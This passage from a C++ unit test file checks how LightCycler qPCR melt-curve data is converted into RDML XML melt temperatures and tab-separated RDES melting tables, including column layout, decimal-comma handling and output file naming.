    EXPECT_EQ(taken.error().message, "'run.tsv' already exists");
    EXPECT_EQ(xlsxtest::readFile(file), "someone else's");
    EXPECT_EQ(dir.files(), (std::vector<std::string>{"run.tsv"}));
}

TEST(RdmlMelt, EachReactionsMeltTempIsItsMainPeak)
{
    const ConvertedChannels converted = convertFile("lc480_384_nrd1_calibration.txt");
    ASSERT_TRUE(converted.melt);
    const auto xml = rdmlXml(rdmlContent(converted));
    ASSERT_TRUE(xml.ok());
    std::vector<std::string> expected;
    for (const WellMelt& well : analyseMeltCurves(*converted.melt, 0))
        if (!well.analysis.peaks.empty())
            expected.push_back(meltTemperatureText(well.analysis.peaks.front().temperature));
    std::vector<std::string> written;
    const std::regex meltTemp("<meltTemp>([^<]*)</meltTemp>");
    for (auto it = std::sregex_iterator(xml->begin(), xml->end(), meltTemp); it != std::sregex_iterator(); ++it)
        written.push_back((*it)[1]);
    EXPECT_GT(expected.size(), 250u);
    EXPECT_EQ(written, expected); // in well order, one per reaction that has a peak
    // Where the schema puts it: after the target, before the points.
    EXPECT_NE(xml->find("<react id=\"1\">\n<sample id=\"Sample 1\"/>\n<data>\n<tar id=\"483-533\"/>\n"
                        "<meltTemp>78.63</meltTemp>\n<adp>"),
              std::string::npos);
}

// Two wells read at partly different temperatures, one written with a comma: a column for every
// temperature, a reading under its own, an empty cell where a well has none.
TEST(RdesMelt, TheMeltingTableHasAColumnPerTemperature)
{
    Grid table(3, 3, 1, 1);
    const std::vector<std::vector<std::string>> cells = {
        {"well", "sample", "1"}, {"A1", " S1", "1.5"}, {"A2", " S2", "2.5"}};
    for (int r = 0; r < 3; ++r)
        for (int c = 0; c < 3; ++c)
            table.setCell(r, c, cells[static_cast<std::size_t>(r)][static_cast<std::size_t>(c)]);
    MeltCurves melt;
    melt.channels = {"465-510"};
    melt.wells = {{"A1", {"60,5", "61.0"}, {"1", "2"}}, {"A2", {"61.00", "62.5"}, {"3", "4,5"}}};
    RdmlContent content;
    content.channels = {"465-510"};
    content.tables = {&table};
    content.melt = &melt;
    RdmlSummary summary;
    const auto written = rdesMeltTable(content, &summary);
    ASSERT_TRUE(written.ok()) << describe(written.error());
    EXPECT_EQ(*written, "Well\tSample\tSample Type\tTarget\tTarget Type\tDye\tTm\t60.5\t61.0\t62.5\n"
                        "A1\tS1\tunkn\t465-510\ttoi\t465-510\t\t1\t2\t\n"
                        "A2\tS2\tunkn\t465-510\ttoi\t465-510\t\t\t3\t4.5\n");
    EXPECT_EQ(summary.meltPoints, 4u);

    content.melt = nullptr;
    EXPECT_EQ(*rdesMeltTable(content), "Well\tSample\tSample Type\tTarget\tTarget Type\tDye\tTm\n");
    EXPECT_EQ(meltingTablePath("out/run.tsv"), fs::path("out/run_melting.tsv"));
    EXPECT_EQ(meltingTablePath("run.TSV"), fs::path("run_melting.TSV"));
}

TEST(RdesMelt, TheRealPlatesTableHoldsEveryReadingAndThePeaks)
{
    const ConvertedChannels converted = convertFile("lc480_384_nrd1_calibration.txt");
    const auto written = rdesMeltTable(rdmlContent(converted));
    ASSERT_TRUE(written.ok());
    std::istringstream lines(*written);
    std::string line;
    std::getline(lines, line);
    EXPECT_EQ(std::count(line.begin(), line.end(), '\t'), 6 + 176);
    const std::vector<WellMelt> peaks = analyseMeltCurves(*converted.melt, 0);
    std::size_t row = 0;
    for (; std::getline(lines, line); ++row) {
        ASSERT_LT(row, peaks.size());
        std::vector<std::string> cells;
        std::istringstream fields(line);
        for (std::string cell; std::getline(fields, cell, '\t');)
            cells.push_back(cell);
        ASSERT_EQ(cells.size(), 7u + 176u) << line.substr(0, 40);
        EXPECT_EQ(cells[0], peaks[row].well);
        EXPECT_EQ(cells[6], meltPeaksText(peaks[row].analysis.peaks));
        // The columns rise; every well of this plate was read at all 176 temperatures.
        EXPECT_EQ(std::count(cells.begin() + 7, cells.end(), ""), 0) << cells[0];
    }
    EXPECT_EQ(row, 384u);
}

} // namespace
} // namespace morvane
